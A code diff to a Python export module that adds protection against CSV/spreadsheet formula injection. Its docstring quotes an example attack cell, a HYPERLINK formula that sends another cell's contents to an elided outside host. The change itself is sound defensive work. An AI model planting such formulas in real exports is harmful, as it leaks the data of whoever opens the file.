@@ -2,6 +2,13 @@
 
 Both take a header and rows of plain values. CSV writes ISO dates, ``true``/``false`` and empty
 cells for null; XLSX keeps the types (numbers, booleans, dates), bolds and freezes the header.
+
+Every file a spreadsheet may open goes through here, so this is where typed text is kept from
+becoming a formula (OWASP "CSV injection"): a title such as ``=HYPERLINK("http://…?"&B2, …)``
+would otherwise run in the reader's Excel. A text cell starting with ``= + - @``, a tab or a
+carriage return is written as text: prefixed with ``'`` in CSV, and in XLSX kept as typed in an
+explicit string cell with Excel's quote prefix (so editing it does not turn it into a formula
+either). Numbers are never touched: ``-3`` stays a number.
 """
 
 from __future__ import annotations
@@ -26,6 +33,19 @@ _CHUNK_ROWS = 500
 _SPOOL_BYTES = 16 * 1024 * 1024
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_like(value: Any) -> bool:
+    """Whether ``value`` is text a spreadsheet would read as a formula."""
+    return isinstance(value, str) and value.startswith(_FORMULA_START)
+
+
+def csv_text(value: Any) -> Any:
+    """``value`` as a CSV cell that no spreadsheet runs: formula-like text gets a ``'``."""
+    return "'" + value if formula_like(value) else value
+
+
 def _csv_cell(value: Any) -> Any:
     if value is None:
         return ""
@@ -36,8 +56,8 @@ def _csv_cell(value: Any) -> Any:
     if isinstance(value, date | uuid.UUID):
         return str(value)
     if isinstance(value, list | tuple):
-        return "; ".join(str(v) for v in value)
-    return value
+        return csv_text("; ".join(str(v) for v in value))
+    return csv_text(value)
 
 
 def csv_chunks(columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[bytes]:
@@ -45,7 +65,7 @@ def csv_chunks(columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterato
     that Excel opens accented names correctly)."""
     buffer = io.StringIO()
     writer = csv.writer(buffer, lineterminator="\r\n")
-    writer.writerow(columns)
+    writer.writerow([csv_text(c) for c in columns])
     pending = 1
     first = True
     for row in rows:
@@ -61,7 +81,7 @@ def csv_chunks(columns: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterato
         yield (("\ufeff" if first else "") + buffer.getvalue()).encode("utf-8")
 
 
-def _xlsx_cell(value: Any) -> Any:
+def _xlsx_value(value: Any) -> Any:
     if isinstance(value, datetime):
         # Excel has no time zones: write UTC wall time.
         return value.astimezone(UTC).replace(tzinfo=None) if value.tzinfo else value
@@ -70,6 +90,21 @@ def _xlsx_cell(value: Any) -> Any:
     if isinstance(value, list | tuple):
         return "; ".join(str(v) for v in value)
     return value
+
+
+def xlsx_cell(sheet: Any, value: Any) -> Any:
+    """``value`` for ``sheet.append``; formula-like text as an explicit, quote-prefixed string
+    cell (openpyxl would otherwise store any text starting with ``=`` as a formula)."""
+    value = _xlsx_value(value)
+    return _cell(sheet, value) if formula_like(value) else value
+
+
+def _cell(sheet: Any, value: Any) -> Any:
+    cell = WriteOnlyCell(sheet, value=value)
+    if formula_like(value):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
 
 
 def xlsx_file(
@@ -88,12 +123,12 @@ def xlsx_file(
     bold = Font(bold=True)
     header = []
     for name in columns:
-        cell = WriteOnlyCell(sheet, value=name)
+        cell = _cell(sheet, name)
         cell.font = bold
         header.append(cell)
     sheet.append(header)
     for row in rows:
-        sheet.append([_xlsx_cell(v) for v in row])
+        sheet.append([xlsx_cell(sheet, v) for v in row])
     out = tempfile.SpooledTemporaryFile(max_size=_SPOOL_BYTES)  # noqa: SIM115
     workbook.save(out)
     out.seek(0)
